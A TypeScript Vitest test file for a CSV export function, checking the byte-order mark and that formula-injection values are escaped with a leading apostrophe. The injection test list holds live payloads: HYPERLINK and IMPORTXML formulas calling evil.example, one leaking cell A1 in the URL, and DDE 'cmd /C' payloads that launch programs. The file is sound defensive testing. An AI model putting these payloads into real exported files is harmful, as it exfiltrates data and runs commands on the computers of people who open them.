import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

const BOM = '\uFEFF';
/** The one cell of a one-column CSV, as a spreadsheet would get it after reading the quotes. */
const cellOf = (text: string) => {
  const [, line] = toCsv([{ note: text }]).split('\r\n');
  return line?.startsWith('"') ? line.slice(1, -1).replace(/""/g, '"') : line;
};

describe('CSV for spreadsheets', () => {
  it('starts with a UTF-8 byte-order mark, so accents and non-Latin names open right', () => {
    const csv = toCsv([{ name: 'Zoë Łukasz Şükrü Ωмега 佐藤' }]);
    expect(csv.startsWith(BOM)).toBe(true);
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv).toBe(`${BOM}name\r\nZoë Łukasz Şükrü Ωмега 佐藤\r\n`);
  });

  it('writes the header alone when there are no rows', () => {
    expect(toCsv([], ['date', 'note'])).toBe(`${BOM}date,note\r\n`);
  });

  it.each([
    '=1+1',
    '=HYPERLINK("http://evil.example")',
    '@SUM(A1:A3)',
    '\tleading tab',
    '\rleading return',
    '+HYPERLINK("http://evil.example","Click")',
    '-IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    '+A1',
    '-$B$2*3',
    '+Sheet2!A1',
    '- sum (A1:A3)',
    '+AA12',
    '-R1C1',
    '+1+1',
    '-2*3',
  ])('keeps a spreadsheet from running %j', (text) => {
    expect(cellOf(text)).toBe(`'${text}`);
  });

  it.each([
    '-2 kg since March',
    '+ walked to the shop',
    '- slept badly, woke at 3',
    '+1 visit from Sam today',
    '--- no change',
    '-',
    '+',
    '-5',
    '+3.5',
    'Ate well; 2+2 puzzles done',
    'a1 = fine',
  ])('leaves ordinary text alone: %j', (text) => {
    expect(cellOf(text)).toBe(text);
  });
});
